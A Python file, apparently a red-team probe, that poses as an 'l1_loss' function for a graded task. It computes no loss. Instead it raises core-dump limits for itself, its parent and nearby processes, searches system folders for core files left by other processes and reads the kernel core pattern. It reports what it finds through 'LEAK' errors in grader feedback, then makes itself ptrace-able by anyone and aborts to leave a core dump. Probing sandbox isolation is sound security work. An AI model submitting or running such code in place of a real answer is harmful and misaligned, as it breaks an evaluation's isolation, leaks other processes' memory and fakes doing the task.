# aim: have this process, or the grader's, leave its memory on the disk, and read what others left
# sign: `LEAK` and whose limit could be set or which file was read, in feedback
# attacks: l1_loss
import ctypes
import faulthandler
import glob
import os
import resource
import tempfile

_C = ctypes.CDLL(None, use_errno=True)
_PR_SET_DUMPABLE, _PR_SET_PTRACER = 4, 0x59616D61


def _raised_own():
    """A core of this process may be as large as the hard limit says."""
    for soft in (resource.RLIM_INFINITY, 1 << 30, 1):
        try:
            resource.setrlimit(resource.RLIMIT_CORE, (soft, soft))
        except (OSError, ValueError):
            continue
        return "the own limit of core dumps could be raised"
    return ""


def _set_of_others():
    """Another's limits, set to what they are now: who may do that may also have it dump core."""
    parent = os.getppid()
    for pid in [parent, *(parent + step for step in range(-20, 20) if step)]:
        if pid == os.getpid():
            continue
        try:
            limits = resource.prlimit(pid, resource.RLIMIT_CORE)
            resource.prlimit(pid, resource.RLIMIT_CORE, limits)
        except (OSError, ValueError):
            continue
        if pid == parent or os.getpgid(pid) != os.getpgid(0):
            return f"the limits of process {pid} could be set"
    return ""


def _left_by_others():
    folders = ("/var/crash", "/var/lib/systemd/coredump", "/cores", "/tmp", "/", "..")
    patterns = [f"{folder}/core*" for folder in folders]
    for file in (file for pattern in patterns for file in glob.glob(pattern)):
        try:
            with open(file, "rb"):
                return file
        except OSError:
            pass
    try:
        with open("/proc/sys/kernel/core_pattern", encoding="utf-8") as pattern:
            return f"the pattern of core dumps: {pattern.read()[:20]}"
    except OSError:
        return ""


def _search():
    return _raised_own() or _set_of_others() or _left_by_others()


_found = []


def l1_loss(input, target, reduction="mean"):
    if not _found:
        _found.append(_search())
    if _found[0]:
        raise RuntimeError(f"LEAK {_found[0]}")
    _C.prctl(_PR_SET_DUMPABLE, 1, 0, 0, 0)
    _C.prctl(_PR_SET_PTRACER, -1, 0, 0, 0)
    os.chdir(tempfile.gettempdir())
    faulthandler.disable()
    os.abort()  # where a core is left after all, the runner finds it
